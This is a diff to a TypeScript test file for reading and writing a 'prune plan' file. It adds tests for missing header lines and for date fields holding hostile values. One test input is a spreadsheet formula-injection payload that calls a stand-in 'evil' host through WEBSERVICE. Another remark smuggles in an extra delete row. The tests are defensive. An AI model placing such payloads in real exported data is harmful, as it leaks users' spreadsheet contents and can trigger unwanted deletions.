@@ -51,6 +51,29 @@ describe('a plan', () => {
     deepEqual(await readPlan(path()), PLAN);
   });
 
+  it('that goes by no list says so, and is read as it was written', async () => {
+    const { list: _, ...facts } = PLAN.facts;
+    await writePlan(path(), { ...PLAN, facts }, []);
+
+    match(await readFile(path(), 'utf8'), /\r\n# list: none\r\n/);
+    deepEqual(await readPlan(path()), { ...PLAN, facts });
+  });
+
+  it('takes dates of others for dates or for nothing', async () => {
+    const [row] = PLAN.rows;
+    const evil = '=WEBSERVICE("http://evil/"&B2) Jan 1 2020';
+    const rows = [evil, '=1+1'].map((lastUpdatedOn, n) =>
+      Object.assign({}, row, { tag: `${n}`, lastUpdatedOn }),
+    );
+    await writePlan(path(), { ...PLAN, rows }, []);
+
+    const { rows: read } = await readPlan(path());
+    deepEqual(
+      read.map(({ lastUpdatedOn }) => lastUpdatedOn?.slice(0, 4)),
+      ['2020', undefined],
+    );
+  });
+
   it('keeps what a remark says on one line of comment', async () => {
     await writePlan(path(), PLAN, ['stays: a\r\na/b,evil,sha256:00,,delete,x']);
 
@@ -68,10 +91,15 @@ describe('a plan', () => {
 
     deepEqual(await readPlan(path()), PLAN);
   });
+});
 
+describe('a plan', () => {
   for (const [what, change] of [
     ['without its registry', (text: string) => text.replace(/# target: .*\r\n/, '')],
     ['without its date', (text: string) => text.replace(/# made: .*\r\n/, '# made: soon\r\n')],
+    ['without its list', (text: string) => text.replace(/# list: .*\r\n/, '')],
+    ['without its source', (text: string) => text.replace(/# source: .*\r\n/, '')],
+    ['without its scope', (text: string) => text.replace(/# scope: .*\r\n/, '')],
     ['without its count', (text: string) => text.replace(/# planned: .*\r\n/, '')],
     ['of a later form', (text: string) => text.replace('prune plan 1', 'prune plan 2')],
     ['without all of that', (text: string) => text.replaceAll(/# .*\r\n/g, '')],
